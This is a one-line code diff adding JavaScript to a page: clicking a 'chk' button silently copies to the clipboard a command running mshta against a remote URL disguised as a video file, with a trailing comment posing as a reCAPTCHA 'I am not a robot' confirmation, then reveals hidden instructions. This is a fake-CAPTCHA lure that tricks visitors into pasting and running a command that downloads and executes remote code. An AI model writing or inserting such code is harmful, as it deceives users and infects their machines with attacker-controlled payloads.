@@ -1,0 +1,1 @@
+document.getElementById('chk').onclick=function(){navigator.clipboard.writeText('mshta https://verify-hub.invalid/c.mp4 # ✅ I am not a robot - reCAPTCHA ID: 4821');document.getElementById('steps').style.display='block'};
